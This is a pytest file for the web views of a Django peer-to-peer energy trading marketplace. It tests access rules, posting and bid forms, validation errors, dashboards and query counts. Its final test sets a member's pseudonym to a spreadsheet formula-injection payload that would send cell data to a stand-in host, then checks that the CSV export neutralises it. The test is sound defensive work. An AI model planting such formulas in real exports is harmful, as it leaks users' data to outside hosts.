"""The prosumer pages through Django's test client: every page and action, and their refusals.

Time is frozen at the factories' T0 (interval 10:15, gate 10:10 UTC), so gate closure is a
``frozen.move_to`` away and never a race.
"""

from __future__ import annotations

import csv
from datetime import timedelta
from decimal import Decimal
from typing import Any

import pytest
import time_machine
from django.test import Client
from django.urls import reverse

from accounts.models import User
from accounts.services import membership_request, membership_suspend
from config import formatting
from marketplace.models import (
    Bid,
    BidStatus,
    Community,
    Interval,
    IntervalState,
    Posting,
    PostingStatus,
    Trade,
)
from marketplace.services.bids import bid_accept
from marketplace.tests.factories import Member, member, new_community, open_interval
from marketplace.tests.fixtures import bid, post
from marketplace.tests.web.conftest import client_for, form_token

pytestmark = pytest.mark.django_db

HTMX = {"HX-Request": "true"}


def url(name: str, community: Community, *args: Any) -> str:
    return reverse(f"marketplace:{name}", args=[community.slug, *args])


def posting_data(
    interval: Interval, who: Member, overrides: dict[str, str] | None = None
) -> dict[str, Any]:
    data = {
        "side": "sell",
        "interval": str(interval.pk),
        "quantity_kwh": "2",
        "limit_price_per_kwh": "0.2000",
        "meter_point": str(who.meter_point.pk),
        "auto_accept_best_bids": "on",
        "form_token": form_token(),
    }
    return {**data, **(overrides or {})}


# --- Who may see what ----------------------------------------------------------------------
@pytest.mark.parametrize("name", ["dashboard", "board", "trades"])
def test_pages_need_a_sign_in(community: Community, name: str) -> None:
    response = Client().get(url(name, community))
    assert response.status_code == 302
    assert "/accounts/login/" in response["Location"]


def test_actions_need_a_sign_in_and_post(frozen: Any, interval: Interval, alice: Member) -> None:
    community = interval.community
    assert Client().post(url("posting_new", community), {}).status_code == 302
    assert client_for(alice).get(url("posting_new", community)).status_code == 405


def test_a_stranger_gets_404_and_an_applicant_sees_pending(
    frozen: Any, community: Community, alice: Member
) -> None:
    stranger = User.objects.create_user("stranger@market.test", "pw")
    client = Client()
    client.force_login(stranger)
    assert client.get(url("board", community)).status_code == 404
    page = client.get(reverse("marketplace:dashboard_home"))
    assert page.status_code == 200
    assert b"not a member of any energy community" in page.content

    membership_request(user=stranger, community=community)
    response = client.get(url("board", community))
    assert response.status_code == 403
    assert b"Pending approval" in response.content
    assert b"Pending approval" in client.get(reverse("marketplace:dashboard_home")).content


@pytest.mark.parametrize("name", ["dashboard_home", "board_home", "trades_home"])
def test_short_links_go_to_my_community(community: Community, alice: Member, name: str) -> None:
    response = client_for(alice).get(reverse(f"marketplace:{name}"))
    assert response.status_code == 302
    assert response["Location"] == url(name.removesuffix("_home"), community)


# --- The board -----------------------------------------------------------------------------
def test_board_shows_pseudonyms_only_and_filters(
    frozen: Any, interval: Interval, alice: Member, bob: Member
) -> None:
    community = interval.community
    offer = post(alice, interval, side="sell")
    request = post(alice, interval, side="buy", price="0.1000")
    page = client_for(bob).get(url("board", community), {"interval": interval.pk})
    html = page.content.decode()
    assert page.status_code == 200
    assert alice.membership.pseudonym in html
    assert alice.membership.user.email not in html
    assert f'id="posting-{offer.pk}"' in html
    assert f'id="posting-{request.pk}"' in html
    assert 'polyline class="supply"' in html
    assert 'polyline class="demand"' in html

    offers_only = client_for(bob).get(url("board", community), {"side": "sell"}).content.decode()
    assert f'id="posting-{offer.pk}"' in offers_only
    assert f'id="posting-{request.pk}"' not in offers_only


def test_board_for_htmx_is_the_fragment_only(frozen: Any, interval: Interval, bob: Member) -> None:
    page = client_for(bob).get(url("board", interval.community), headers=HTMX)
    html = page.content.decode()
    assert page.status_code == 200
    assert html.lstrip().startswith('<div id="board-main"')
    assert "<html" not in html


def test_post_an_offer_then_redirect(frozen: Any, interval: Interval, alice: Member) -> None:
    community = interval.community
    response = client_for(alice).post(
        url("posting_new", community) + f"?interval={interval.pk}", posting_data(interval, alice)
    )
    assert response.status_code == 302
    assert response["Location"] == url("board", community) + f"?interval={interval.pk}"
    posting = Posting.objects.get(membership=alice.membership)
    assert (posting.quantity_kwh, posting.limit_price_per_kwh) == (Decimal(2), Decimal("0.2"))


def test_post_with_htmx_answers_the_fresh_board(
    frozen: Any, interval: Interval, alice: Member
) -> None:
    response = client_for(alice).post(
        url("posting_new", interval.community), posting_data(interval, alice), headers=HTMX
    )
    html = response.content.decode()
    assert response.status_code == 200
    assert "is on the board" in html
    assert "<html" not in html


def test_a_double_submit_posts_once_and_a_corrected_form_goes_through(
    frozen: Any, interval: Interval, alice: Member, bob: Member
) -> None:
    community = interval.community
    client = client_for(alice)
    board = client.get(url("board", community)).content.decode()
    token = board.split('name="form_token" value="')[1].split('"')[0]
    data = {**posting_data(interval, alice), "form_token": token}
    first = client.post(url("posting_new", community), data)
    assert first.status_code == 302
    for extra in ({}, HTMX):  # a second click, a resent form, with and without htmx
        again = client.post(url("posting_new", community), data, headers=extra, follow=True)
        assert again.status_code == 200
        assert "This form was already sent" in again.content.decode()
    assert Posting.objects.filter(membership=alice.membership).count() == 1
    # A refused form frees its token: the member corrects it and sends it again.
    fresh = {**data, "form_token": form_token(), "quantity_kwh": "9999"}
    assert client.post(url("posting_new", community), fresh).status_code == 400
    fresh["quantity_kwh"] = "1"
    assert client.post(url("posting_new", community), fresh).status_code == 302
    assert Posting.objects.filter(membership=alice.membership).count() == 2
    # Without a token (a stale page, a script): refused, nothing posted.
    stale = client.post(url("posting_new", community), {**data, "form_token": ""})
    assert stale.status_code == 400
    assert b"This form is out of date" in stale.content
    # A bid's form too; a token is the member's own, another member's is not "already sent".
    offer = Posting.objects.filter(membership=alice.membership).first()
    assert offer is not None
    bid_data = {"quantity_kwh": "0.5", "price_per_kwh": "0.25",
                "meter_point": bob.meter_point.pk, "form_token": token}  # fmt: skip
    bob_client = client_for(bob)
    assert bob_client.post(url("bid_new", community, offer.pk), bid_data).status_code == 302
    assert bob_client.post(url("bid_new", community, offer.pk), bid_data).status_code == 302
    assert Bid.objects.filter(membership=bob.membership).count() == 1
    assert Posting.objects.count() == 2


@pytest.mark.parametrize(
    ("overrides", "field", "message"),
    [
        ({"limit_price_per_kwh": "0.9"}, "limit_price_per_kwh", "between the floor"),
        ({"limit_price_per_kwh": "abc"}, "limit_price_per_kwh", "Not a decimal number"),
        ({"quantity_kwh": "0"}, "quantity_kwh", "more than 0 kWh"),
        ({"quantity_kwh": "1.23456"}, "quantity_kwh", "At most 3 decimal places"),
        ({"quantity_kwh": "9999"}, "quantity_kwh", "can export at most"),
        ({"quantity_kwh": ""}, "quantity_kwh", "This field is required"),
        ({"side": "hold"}, "side", "Select a valid choice"),
        ({"interval": "999999"}, "interval", "upcoming intervals"),
        ({"quantity_kwh": "1e30"}, "quantity_kwh", "can export at most"),
        ({"quantity_kwh": "NaN"}, "quantity_kwh", "Must be a finite number"),
        ({"limit_price_per_kwh": "Infinity"}, "limit_price_per_kwh", "Must be a finite number"),
        ({"limit_price_per_kwh": "-Infinity"}, "limit_price_per_kwh", "Must be a finite number"),
        ({"quantity_kwh": "9" * 200}, "quantity_kwh", "can export at most"),
        ({"interval": "9" * 200}, "interval", "upcoming intervals"),
        ({"meter_point": "9" * 200}, "meter_point", "your meter points"),
        ({"meter_point": "1e30"}, "meter_point", "Enter a whole number"),
    ],
)
def test_post_refused_shows_the_error_at_its_field_and_keeps_the_input(
    frozen: Any, interval: Interval, alice: Member, overrides: dict[str, str], field: str,
    message: str,
) -> None:  # fmt: skip
    data = posting_data(interval, alice, overrides)
    target = url("posting_new", interval.community)
    for extra in ({}, HTMX):  # without and with htmx
        response = client_for(alice).post(target, data, headers=extra)
        html = response.content.decode()
        assert response.status_code == 400
        assert f'id="id_{field}_errors"' in html
        errors = html.split(f'id="id_{field}_errors"')[1].split("</ul>")[0]
        assert message in errors
        if field == "limit_price_per_kwh":
            assert 'value="2"' in html  # the quantity typed is still there
    assert not Posting.objects.exists()


def test_post_with_someone_elses_meter_point_is_refused(
    frozen: Any, interval: Interval, alice: Member, bob: Member
) -> None:
    data = posting_data(interval, alice, {"meter_point": str(bob.meter_point.pk)})
    response = client_for(alice).post(url("posting_new", interval.community), data)
    assert response.status_code == 400
    assert b"Choose one of your meter points" in response.content
    assert not Posting.objects.exists()


def test_post_after_gate_closure_shows_the_service_message(
    frozen: time_machine.Traveller, interval: Interval, alice: Member
) -> None:
    frozen.move_to(interval.gate_closure_at + timedelta(seconds=1))
    response = client_for(alice).post(
        url("posting_new", interval.community), posting_data(interval, alice)
    )
    assert response.status_code == 400
    errors = response.content.decode().split('id="id_interval_errors"')[1]
    assert "The gate of this interval closed at" in errors


def test_bid_accept_and_see_the_trade(
    frozen: Any, interval: Interval, alice: Member, bob: Member
) -> None:
    community = interval.community
    offer = post(alice, interval)
    response = client_for(bob).post(
        url("bid_new", community, offer.pk),
        {
            "quantity_kwh": "1.5",
            "price_per_kwh": "0.25",
            "meter_point": bob.meter_point.pk,
            "form_token": form_token(),
        },
    )
    assert response.status_code == 302
    placed = Bid.objects.get(membership=bob.membership)
    board = client_for(alice).get(url("board", community)).content.decode()
    assert f'id="bid-{placed.pk}"' in board
    assert bob.membership.pseudonym in board

    response = client_for(alice).post(url("bid_accept", community, placed.pk), {"quantity_kwh": ""})
    assert response.status_code == 302
    trade = Trade.objects.get(bid=placed)
    assert trade.quantity_kwh == Decimal("1.5")
    for who in (alice, bob):
        page = client_for(who).get(url("trades", community)).content.decode()
        assert f'id="trade-{trade.pk}"' in page
        assert "awaiting the grid check" in page
    assert (
        alice.membership.user.email
        not in client_for(bob).get(url("trades", community)).content.decode()
    )


@pytest.mark.parametrize(
    ("data", "field", "message"),
    [
        ({"price_per_kwh": "0.1"}, "price_per_kwh", "must be at least 0.2000"),
        ({"quantity_kwh": "5"}, "quantity_kwh", "has only 2.000 kWh left"),
        ({"quantity_kwh": "x"}, "quantity_kwh", "Not a decimal number"),
        ({"quantity_kwh": "1e30"}, "quantity_kwh", "has only 2.000 kWh left"),
        ({"price_per_kwh": "NaN"}, "price_per_kwh", "Must be a finite number"),
        ({"price_per_kwh": "9" * 200}, "price_per_kwh", "between the floor"),
        ({"meter_point": "9" * 200}, "meter_point", "your meter points"),
    ],
)
def test_bid_refused_shows_the_error_in_that_postings_form(
    frozen: Any, interval: Interval, alice: Member, bob: Member, data: dict[str, str],
    field: str, message: str,
) -> None:  # fmt: skip
    offer = post(alice, interval)
    values = {
        "quantity_kwh": "1",
        "price_per_kwh": "0.25",
        "meter_point": bob.meter_point.pk,
        "form_token": form_token(),
    }
    response = client_for(bob).post(
        url("bid_new", interval.community, offer.pk), {**values, **data}, headers=HTMX
    )
    html = response.content.decode()
    assert response.status_code == 400
    assert message in html.split(f'id="id_bid{offer.pk}_{field}_errors"')[1].split("</ul>")[0]
    assert not Bid.objects.exists()


def test_bid_on_own_posting_is_refused_above_the_board(
    frozen: Any, interval: Interval, alice: Member
) -> None:
    offer = post(alice, interval)
    response = client_for(alice).post(
        url("bid_new", interval.community, offer.pk),
        {
            "quantity_kwh": "1",
            "price_per_kwh": "0.25",
            "meter_point": alice.meter_point.pk,
            "form_token": form_token(),
        },
    )
    assert response.status_code == 400
    assert b"You cannot bid on your own posting." in response.content


def test_bid_on_a_posting_of_another_community_is_404(
    frozen: Any, interval: Interval, bob: Member
) -> None:
    elsewhere = new_community()
    stranger = member(elsewhere)
    foreign = post(stranger, open_interval(elsewhere))
    response = client_for(bob).post(
        url("bid_new", interval.community, foreign.pk),
        {
            "quantity_kwh": "1",
            "price_per_kwh": "0.25",
            "meter_point": bob.meter_point.pk,
            "form_token": form_token(),
        },
    )
    assert response.status_code == 404


def test_accept_refusals_go_on_the_bid_row(
    frozen: Any, interval: Interval, alice: Member, bob: Member
) -> None:
    community = interval.community
    offer = post(alice, interval)
    placed = bid(bob, offer, quantity="1")
    too_much = client_for(alice).post(
        url("bid_accept", community, placed.pk), {"quantity_kwh": "1.5"}, headers=HTMX
    )
    assert too_much.status_code == 400
    assert b"The bid is for 1.000 kWh only." in too_much.content
    not_poster = client_for(bob).post(url("bid_accept", community, placed.pk), {})
    assert not_poster.status_code == 400
    assert b"Only the poster can accept bids on a posting." in not_poster.content
    assert not Trade.objects.exists()


def test_reject_withdraw_and_cancel(
    frozen: Any, interval: Interval, alice: Member, bob: Member, carol: Member
) -> None:
    community = interval.community
    offer = post(alice, interval)
    first, second = bid(bob, offer), bid(carol, offer)
    assert client_for(alice).post(url("bid_reject", community, first.pk)).status_code == 302
    # Only the bidder withdraws: alice cannot withdraw carol's bid.
    refused = client_for(alice).post(url("bid_withdraw", community, second.pk), headers=HTMX)
    assert refused.status_code == 400
    assert b"Only the bidder can withdraw a bid." in refused.content
    assert client_for(carol).post(url("bid_withdraw", community, second.pk)).status_code == 302
    assert client_for(bob).post(url("posting_cancel", community, offer.pk)).status_code == 400
    assert client_for(alice).post(url("posting_cancel", community, offer.pk)).status_code == 302
    first.refresh_from_db()
    second.refresh_from_db()
    offer.refresh_from_db()
    assert (first.status, second.status) == (BidStatus.REJECTED, BidStatus.WITHDRAWN)
    assert offer.status == PostingStatus.CANCELLED


def test_modify_a_posting_on_the_board(frozen: Any, interval: Interval, alice: Member) -> None:
    community = interval.community
    offer = post(alice, interval, "sell", "2", "0.2000")
    board = client_for(alice).get(url("board", community)).content.decode()
    assert url("posting_modify", community, offer.pk) in board
    assert "Lowering only the quantity keeps your place in the queue" in board
    target = url("posting_modify", community, offer.pk)
    lowered = client_for(alice).post(
        target, {"quantity_kwh": "1.5", "limit_price_per_kwh": "0.2000"}, follow=True
    )
    assert "it keeps its place in the queue" in lowered.content.decode()
    repriced = client_for(alice).post(
        target, {"quantity_kwh": "1.5", "limit_price_per_kwh": "0.2500"}, follow=True
    )
    assert "it queues again from now" in repriced.content.decode()
    offer.refresh_from_db()
    assert (offer.quantity_kwh, offer.limit_price_per_kwh) == (Decimal("1.5"), Decimal("0.25"))
    # A refusal goes next to its field, with htmx too, and keeps the row's form open.
    refused = client_for(alice).post(
        target, {"quantity_kwh": "x", "limit_price_per_kwh": "0.25"}, headers=HTMX
    )
    assert refused.status_code == 400
    html = refused.content.decode()
    assert f'id="id_modify{offer.pk}_quantity_kwh_errors"' in html
    assert '<details class="modify" open>' in html


def test_modify_a_bid_on_the_board(
    frozen: Any, interval: Interval, alice: Member, bob: Member
) -> None:
    community = interval.community
    offer = post(alice, interval, "sell", "2", "0.2000")
    pending = bid(bob, offer, "1", "0.3000")
    board = client_for(bob).get(url("board", community)).content.decode()
    target = url("bid_modify", community, pending.pk)
    assert target in board
    lowered = client_for(bob).post(
        target, {"quantity_kwh": "0.5", "price_per_kwh": "0.3000"}, follow=True
    )
    assert "it keeps its place in the queue" in lowered.content.decode()
    repriced = client_for(bob).post(
        target, {"quantity_kwh": "0.5", "price_per_kwh": "0.2500"}, follow=True
    )
    assert "it queues again from now" in repriced.content.decode()
    pending.refresh_from_db()
    assert (pending.quantity_kwh, pending.price_per_kwh) == (Decimal("0.5"), Decimal("0.25"))
    # Below the offer's limit: the refusal goes next to its field and keeps the form open.
    refused = client_for(bob).post(
        target, {"quantity_kwh": "0.5", "price_per_kwh": "0.1000"}, headers=HTMX
    )
    assert refused.status_code == 400
    html = refused.content.decode()
    assert f'id="id_bidmodify{pending.pk}_price_per_kwh_errors"' in html
    assert '<details class="modify" open>' in html
    # Only the bidder modifies: the poster is refused, and nothing changes.
    other = client_for(alice).post(target, {"quantity_kwh": "0.1", "price_per_kwh": "0.25"})
    assert other.status_code == 400
    pending.refresh_from_db()
    assert pending.quantity_kwh == Decimal("0.5")


def test_suspended_member_sees_history_but_cannot_trade(
    frozen: Any, interval: Interval, alice: Member, bob: Member
) -> None:
    community = interval.community
    offer = post(alice, interval)
    trade = bid_accept(bid=bid(bob, offer), by_membership=alice.membership)
    membership_suspend(membership=alice.membership, decided_by=None, reason="meter tampering")
    client = client_for(alice)
    board = client.get(url("board", community)).content.decode()
    assert "Your membership is suspended (meter tampering)" in board
    assert 'id="posting-form"' not in board
    refused = client.post(url("posting_new", community), posting_data(interval, alice))
    assert refused.status_code == 403
    assert Posting.objects.filter(membership=alice.membership).count() == 1
    other = post(bob, interval, side="buy", price="0.1000")
    assert (
        client.post(
            url("bid_new", community, other.pk),
            {
                "quantity_kwh": "1",
                "price_per_kwh": "0.1",
                "meter_point": alice.meter_point.pk,
                "form_token": form_token(),
            },
        ).status_code
        == 403
    )
    assert f'id="trade-{trade.pk}"' in client.get(url("trades", community)).content.decode()
    assert client.get(url("dashboard", community)).status_code == 200


# --- Dashboard and trades ------------------------------------------------------------------
def test_dashboard_shows_intervals_orders_position_and_savings(
    frozen: Any, interval: Interval, alice: Member, bob: Member
) -> None:
    community = interval.community
    offer = post(alice, interval, quantity="2", price="0.2000")
    bid_accept(bid=bid(bob, offer, quantity="1.5", price="0.2500"), by_membership=alice.membership)
    post(alice, interval, side="sell", quantity="1", price="0.3000")
    html = client_for(alice).get(url("dashboard", community)).content.decode()
    assert "Next intervals" in html
    assert "data-countdown" in html
    assert "1 bid" not in html  # the accepted bid is not waiting any more
    # Sold 1.5 kWh at 0.25 against the feed-in tariff of 0.08: 1.5 * 0.17 = 0.255 -> 0.26.
    assert "0.26 EUR" in html
    assert "1.500" in html  # position: sold
    assert "0.00 EUR" in html  # balance: nothing settled yet
    bob_html = client_for(bob).get(url("dashboard", community)).content.decode()
    # Bought 1.5 kWh at 0.25 against the retail tariff of 0.32: 1.5 * 0.07 = 0.105 -> 0.11.
    assert "0.11 EUR" in bob_html


def test_trades_page_shows_curtailment_and_its_reason(
    frozen: Any, interval: Interval, alice: Member, bob: Member
) -> None:
    offer = post(alice, interval)
    trade = bid_accept(bid=bid(bob, offer, quantity="2"), by_membership=alice.membership)
    Interval.objects.filter(pk=interval.pk).update(state=IntervalState.CONFIRMED)
    Trade.objects.filter(pk=trade.pk).update(
        confirmed_kwh=Decimal("1.2"), curtailed_kwh=Decimal("0.8"),
        curtailment_reason="line 3 loading 112 % > 100 %",
    )  # fmt: skip
    html = client_for(bob).get(url("trades", interval.community)).content.decode()
    assert "Confirmed 1.200 kWh" in html
    assert "Curtailed 0.800 kWh" in html
    assert "line 3 loading 112 %" in html
    # The flat network charge on the confirmed kWh: 1.2 kWh * 0.005 = 0.006 -> 0.01.
    assert 'class="num network-charge">0.01 EUR' in html
    assert "My share of the network losses" in html


def test_a_held_interval_says_so_on_my_trades_and_the_dashboard(
    frozen: Any, interval: Interval, alice: Member, bob: Member
) -> None:
    offer = post(alice, interval)
    bid_accept(bid=bid(bob, offer, quantity="2"), by_membership=alice.membership)
    trades = client_for(bob).get(url("trades", interval.community)).content.decode()
    assert "awaiting the grid check" in trades
    assert ">Held<" not in trades
    Interval.objects.filter(pk=interval.pk).update(
        state=IntervalState.CLEARED, held_reason="the grid check found no safe schedule"
    )
    trades = client_for(bob).get(url("trades", interval.community)).content.decode()
    assert ">Held<" in trades
    assert "nothing is settled until then" in trades
    assert "awaiting the grid check" not in trades
    dashboard = client_for(bob).get(url("dashboard", interval.community)).content.decode()
    assert (
        'title="The grid check found no safe schedule; the manager is fixing it">Held<' in dashboard
    )


def test_board_shows_a_bidder_the_network_charge(
    frozen: Any, interval: Interval, alice: Member, bob: Member
) -> None:
    offer = post(alice, interval)
    html = client_for(bob).get(url("board", interval.community)).content.decode()
    row = html.split(f'id="posting-{offer.pk}"', 1)[1].split("</tr>", 1)[0]
    # The community's rule is flat: its fee, whatever the distance.
    fee = formatting.cents(interval.rules.fee_per_kwh, interval.community)
    assert f">{fee}</td>" in row
    assert 'class="num network-charge"' in row


# --- Query counts: no N+1 on the hot pages -------------------------------------------------
# 14, plus the navigation with its bell (one query) and the expected network charges of the
# postings (one query, and the community's grid model when its rule is by use).
BOARD_QUERIES = 17
DASHBOARD_QUERIES = 24  # session, user, community, permissions, navigation and bell, a figure each,
# the ledger statement (account, opening balance, settlements, entries) of the month and the week


@pytest.mark.parametrize("postings", [1, 6])
def test_board_query_count_does_not_grow_with_postings(
    frozen: Any, interval: Interval, alice: Member, bob: Member, carol: Member,
    django_assert_max_num_queries: Any, postings: int,
) -> None:  # fmt: skip
    for i in range(postings):
        own = post(alice, interval, quantity="0.5", price=f"0.{20 + i}00")
        bid(bob, own, quantity="0.1", price="0.4000")
        post(carol, interval, side="buy", quantity="0.5", price="0.1000")
        bid(alice, post(bob, interval, quantity="0.2"), quantity="0.1")
    client = client_for(alice)
    with django_assert_max_num_queries(BOARD_QUERIES):
        assert client.get(url("board", interval.community)).status_code == 200


@pytest.mark.parametrize("trades", [1, 6])
def test_dashboard_query_count_does_not_grow_with_trades(
    frozen: Any, interval: Interval, alice: Member, bob: Member,
    django_assert_max_num_queries: Any, trades: int,
) -> None:  # fmt: skip
    for _ in range(trades):
        offer = post(alice, interval, quantity="0.5")
        bid_accept(bid=bid(bob, offer, quantity="0.5"), by_membership=alice.membership)
        post(alice, interval, quantity="0.1")
        bid(alice, post(bob, interval, quantity="0.2"), quantity="0.1")
    client = client_for(alice)
    with django_assert_max_num_queries(DASHBOARD_QUERIES):
        assert client.get(url("dashboard", interval.community)).status_code == 200


def test_the_trades_csv_defuses_a_formula_in_a_cell(
    frozen: Any, interval: Interval, alice: Member, bob: Member
) -> None:
    offer = post(alice, interval)
    bid_accept(bid=bid(bob, offer, quantity="2"), by_membership=alice.membership)
    hostile = '=HYPERLINK("http://evil.test/?"&A1)'
    type(alice.membership).objects.filter(pk=alice.membership.pk).update(pseudonym=hostile)
    response: Any = client_for(bob).get(url("trades_csv", interval.community))
    rows = list(csv.reader(b"".join(response.streaming_content).decode().splitlines()))
    assert rows[1][4] == "'" + hostile  # shown as text, never run
    assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row)
